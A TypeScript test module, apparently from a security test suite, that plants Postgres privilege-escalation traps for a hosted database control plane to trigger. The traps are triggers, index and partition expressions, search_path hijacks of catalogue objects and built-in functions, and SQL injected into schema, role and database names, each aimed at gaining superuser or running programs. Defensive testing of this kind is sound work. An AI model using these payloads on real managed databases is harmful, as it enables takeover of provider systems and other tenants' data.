import { type Attack, defineAttacks, type Outcome, reportHeld, reportThrough } from "../attack.js";
import { type AttackTarget, KEYS } from "../attackTarget.js";
import { runPlaneActions, listGainedPrivileges, runStatements } from "../privileges.js";

/** What a trap does when it runs: it records the user that runs it, and tries to gain privileges. */
const ACT = [
  "CREATE SCHEMA trap",
  "CREATE TABLE trap.seen (who text)",
  "GRANT ALL ON SCHEMA trap TO PUBLIC; GRANT ALL ON trap.seen TO PUBLIC",
  `CREATE FUNCTION trap.act() RETURNS int LANGUAGE plpgsql AS $$ BEGIN
  BEGIN EXECUTE 'ALTER ROLE neondb_owner SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXECUTE 'ALTER ROLE neondb_owner SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET ROLE'; EXECUTE 'GRANT pg_execute_server_program TO neondb_owner'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''true'''; INSERT INTO trap.seen VALUES ('a program ran'); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN IF current_setting('is_superuser') = 'on' THEN INSERT INTO trap.seen VALUES (session_user); END IF; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN 1; END $$`,
  // Inlined or folded by whoever opens the table; what it does comes later.
  "CREATE FUNCTION trap.grab(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
  "CREATE FUNCTION trap.fire() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM trap.act(); RETURN NULL; END $$",
];
const ARM = "CREATE OR REPLACE FUNCTION trap.grab(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN trap.act(); END $$";

const TABLE = "CREATE TABLE trap.t (n int); INSERT INTO trap.t VALUES (1)";

/** Where a tenant places code, for which work of the plane. */
const TRAPS: Record<string, readonly string[]> = {
  "a trigger on TRUNCATE": [TABLE, "CREATE TRIGGER g BEFORE TRUNCATE ON trap.t EXECUTE FUNCTION trap.fire()"],
  "a trigger on TRUNCATE that fires always": [
    TABLE,
    "CREATE TRIGGER g AFTER TRUNCATE ON trap.t EXECUTE FUNCTION trap.fire()",
    "ALTER TABLE trap.t ENABLE ALWAYS TRIGGER g",
  ],
  "an expression of an index": [TABLE, "CREATE INDEX ON trap.t ((n + trap.grab(1)))"],
  "the condition of an index": [TABLE, "CREATE INDEX ON trap.t (n) WHERE trap.grab(2) = 1"],
  "the key of a partitioned table": [
    "CREATE TABLE trap.p (n int) PARTITION BY RANGE ((n + trap.grab(3)))",
    "CREATE TABLE trap.p1 PARTITION OF trap.p DEFAULT",
  ],
  "a generated column": [
    "CREATE TABLE trap.g (n int, m int GENERATED ALWAYS AS (n + trap.grab(4)) STORED)",
    "INSERT INTO trap.g VALUES (1)",
  ],
  "a virtual generated column": [
    "CREATE TABLE trap.g (n int, m int GENERATED ALWAYS AS (n + trap.grab(4)) VIRTUAL)",
    "INSERT INTO trap.g VALUES (1)",
  ],
  "a default, and the check of a domain": [
    "CREATE DOMAIN trap.d AS int CHECK (trap.grab(VALUE) = 1)",
    "CREATE TABLE trap.c (n trap.d DEFAULT trap.grab(5))",
    "INSERT INTO trap.c DEFAULT VALUES",
  ],
  "extended statistics": [TABLE, "CREATE STATISTICS trap.s ON (n + trap.grab(6)), n FROM trap.t", "ANALYZE trap.t"],
  "a materialized view": [TABLE, "CREATE MATERIALIZED VIEW trap.m AS SELECT trap.grab(n) FROM trap.t"],
  "a policy of row security": [
    TABLE,
    "ALTER TABLE trap.t ENABLE ROW LEVEL SECURITY",
    "ALTER TABLE trap.t FORCE ROW LEVEL SECURITY",
    "CREATE POLICY p ON trap.t USING (trap.grab(n) = 1)",
  ],
  "a rule on a table": [TABLE, "CREATE RULE r AS ON DELETE TO trap.t DO INSTEAD SELECT trap.act()"],
  "a view in the place of catalogues": [
    "CREATE VIEW trap.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE trap.act() = 1",
    "CREATE VIEW trap.pg_tables AS SELECT * FROM pg_catalog.pg_tables WHERE trap.act() = 1",
    "CREATE VIEW trap.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE trap.act() = 1",
    "ALTER DATABASE neondb SET search_path = trap, pg_catalog",
  ],
  "functions in the place of Postgres' own": [
    "CREATE FUNCTION public.format(text, VARIADIC text[]) RETURNS text LANGUAGE sql AS $$ SELECT trap.act()::text $$",
    "CREATE FUNCTION public.quote_ident(name) RETURNS text LANGUAGE sql AS $$ SELECT trap.act()::text $$",
    "CREATE FUNCTION public.string_agg(text, text) RETURNS text LANGUAGE sql AS $$ SELECT trap.act()::text $$",
    "ALTER DATABASE neondb SET search_path = public, pg_catalog",
  ],
  "an operator in the place of Postgres' own": [
    "CREATE FUNCTION public.same(name, text) RETURNS boolean LANGUAGE sql AS $$ SELECT trap.act() = 1 $$",
    "CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same)",
    "CREATE FUNCTION public.differs(oid, int) RETURNS boolean LANGUAGE sql AS $$ SELECT trap.act() = 1 $$",
    "CREATE OPERATOR public.>= (LEFTARG = oid, RIGHTARG = int, FUNCTION = public.differs)",
    "ALTER DATABASE neondb SET search_path = public, pg_catalog",
  ],
  "a cast of one's own type": [
    "CREATE TYPE trap.pair AS (n int)",
    "CREATE FUNCTION trap.as_text(trap.pair) RETURNS text LANGUAGE sql AS $$ SELECT trap.act()::text $$",
    "CREATE CAST (trap.pair AS text) WITH FUNCTION trap.as_text(trap.pair) AS IMPLICIT",
    "CREATE TABLE trap.c (p trap.pair DEFAULT ROW(1)::trap.pair)",
  ],
  "default privileges for what others make": [
    "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
    "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT EXECUTE ON FUNCTIONS TO PUBLIC",
  ],
  "an aggregate": [
    "CREATE FUNCTION trap.step(int, int) RETURNS int LANGUAGE sql AS $$ SELECT trap.act() $$",
    "CREATE AGGREGATE public.count(int) (SFUNC = trap.step, STYPE = int, INITCOND = '0')",
    "ALTER DATABASE neondb SET search_path = public, pg_catalog",
  ],
  "names with statements in them": [
    `CREATE SCHEMA "x; ALTER ROLE neondb_owner SUPERUSER; --"`,
    `CREATE TABLE "x; ALTER ROLE neondb_owner SUPERUSER; --"."y""; ALTER ROLE neondb_owner SUPERUSER; --" (n int)`,
    `CREATE TRIGGER "z; ALTER ROLE neondb_owner SUPERUSER; --" BEFORE TRUNCATE ON "x; ALTER ROLE neondb_owner SUPERUSER; --"."y""; ALTER ROLE neondb_owner SUPERUSER; --" EXECUTE FUNCTION trap.fire()`,
    `CREATE MATERIALIZED VIEW "m'; ALTER ROLE neondb_owner SUPERUSER; --" AS SELECT 1 AS n`,
  ],
  "a role and a database with statements in their names": [
    `CREATE ROLE "r""; ALTER ROLE neondb_owner SUPERUSER; --" LOGIN PASSWORD 'correct-Horse7battery'`,
    `CREATE DATABASE "d""; ALTER ROLE neondb_owner SUPERUSER; --"`,
    `CREATE ROLE "'; ALTER ROLE neondb_owner SUPERUSER; --"`,
  ],
  "settings of the database for who enters it": [
    "ALTER DATABASE neondb SET role = 'neondb_owner'",
    "ALTER DATABASE neondb SET row_security = off",
    "ALTER DATABASE neondb SET standard_conforming_strings = off",
    "ALTER DATABASE neondb SET quote_all_identifiers = on",
    "ALTER DATABASE neondb SET check_function_bodies = off",
  ],
  "a schema of the plane's name": [
    "CREATE SCHEMA palisade",
    "CREATE TABLE palisade.role (name text, applied text)",
    "INSERT INTO palisade.role VALUES ('cloud_admin', NULL), ('neon_superuser', NULL)",
    "CREATE TRIGGER g BEFORE TRUNCATE ON palisade.role EXECUTE FUNCTION trap.fire()",
  ],
  "a function that a foreign key runs": [
    TABLE,
    "ALTER TABLE trap.t ADD PRIMARY KEY (n)",
    "CREATE TABLE trap.f (n int REFERENCES trap.t ON DELETE CASCADE)",
    "CREATE TRIGGER g BEFORE DELETE ON trap.f FOR EACH ROW EXECUTE FUNCTION trap.fire()",
    "CREATE TRIGGER g BEFORE TRUNCATE ON trap.f EXECUTE FUNCTION trap.fire()",
  ],
};

export const traps: Attack[] = defineAttacks(
  "traps",
  Object.entries(TRAPS).map(([name, statements]) => ({
    name,
    gain: "the plane's own rights: the superuser of the branch",
    attempt: (target) => tryTrap(target, statements),
  })),
);

/** In a project of its own: a role is dropped, the schema read, SQL learnt, a copy emptied; then gained privileges are listed. */
async function tryTrap(target: AttackTarget, statements: readonly string[]): Promise<Outcome> {
  const place = await target.createProject(KEYS.attackers, { name: "traps" });
  const planted = await runStatements(target, place.owner, [...ACT, ...statements, ARM]);
  await runPlaneActions(target, place);
  const copy = await target.createBranch(place, { init_source: "schema-only" });
  const gained = await Promise.all([place, copy].map(({ owner }) => listGainedPrivileges(target, owner)));
  const seen = await target.query(place.owner, "SELECT who FROM trap.seen");
  await target.callOrThrow("DELETE", `/projects/${place.projectId}`);
  const what = [...gained.flat(), ...seen.map(({ who }) => `run as ${String(who)}`)];
  const refused = planted.filter((answer) => answer !== undefined);
  return what.length > 0
    ? reportThrough(what.join(", "))
    : reportHeld(`nothing gained${refused.length > 0 ? ` (${refused.join("; ")})` : ""}`);
}
